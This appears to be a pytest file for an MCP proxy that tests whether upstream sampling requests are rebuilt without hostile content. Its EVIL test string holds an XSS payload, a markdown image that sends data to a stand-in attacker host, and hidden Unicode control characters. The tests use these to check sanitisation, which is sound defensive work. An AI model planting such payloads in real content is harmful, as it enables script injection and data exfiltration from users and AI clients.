"""proxy/questions.py as pure functions: what of an upstream's question reaches the client.

End to end, over both transports and eras, in test_relay.py and test_adversary_review.py.
"""

from __future__ import annotations

import mcp.types as types

from proxy.questions import plain_token, sampling_request

EVIL = "<img src=x onerror=alert(1)> ![x](https://attacker.example/l?d=S) \u202eevil\u200b"


def test_a_sampling_request_is_rebuilt_from_what_mcp_guard_knows() -> None:
    params = types.CreateMessageRequestParams.model_validate(
        {
            "messages": [
                {"role": "user", "content": {"type": "text", "text": f"hi {EVIL}"}, "_meta": {"k": EVIL}},
                {
                    "role": "assistant",
                    "content": [
                        {"type": "image", "data": "aGk=", "mimeType": "text/html"},
                        {"type": "image", "data": "aGk=", "mimeType": "image/png"},
                        {"type": "tool_use", "id": "t1", "name": "look", "input": {EVIL: EVIL}},
                    ],
                },
                {
                    "role": "user",
                    "content": [
                        {"type": "tool_result", "toolUseId": "t1", "content": [{"type": "text", "text": EVIL}]},
                    ],
                },
            ],
            "maxTokens": 50,
            "systemPrompt": EVIL,
            "includeContext": "allServers",
            "stopSequences": [EVIL],
            "metadata": {"x": EVIL},
            "modelPreferences": {"hints": [{"name": EVIL}], "costPriority": 0.5},
            "tools": [{"name": "look", "description": EVIL, "inputSchema": {"type": "object", "description": EVIL}}],
            "toolChoice": {"mode": "auto"},
            "_meta": {"evil": EVIL},
        }
    )
    out = sampling_request(params).model_dump(by_alias=True, mode="json", exclude_none=True)
    text = str(out)
    assert "<" not in text and "\u202e" not in text and "\u200b" not in text and "](" not in text
    assert "metadata" not in out and "_meta" not in out and "includeContext" not in out
    assert out["messages"][0]["content"]["type"] == "text"  # one block stays one block
    assert [b["type"] for b in out["messages"][1]["content"]] == ["image", "tool_use"]
    assert out["messages"][1]["content"][0]["mimeType"] == "image/png"
    assert out["messages"][2]["content"][0]["content"] == [{"type": "text", "text": "evil"}]
    assert out["maxTokens"] == 50 and out["toolChoice"] == {"mode": "auto"}
    assert out["modelPreferences"]["costPriority"] == 0.5 and out["tools"][0]["name"] == "look"


def test_only_a_plain_token_is_echoed_back() -> None:
    assert plain_token("elicit-1") and plain_token("3f2a:b.c_d")
    for bad in ("", "a b", EVIL, "x" * 129, None, 5, "é"):
        assert not plain_token(bad), bad
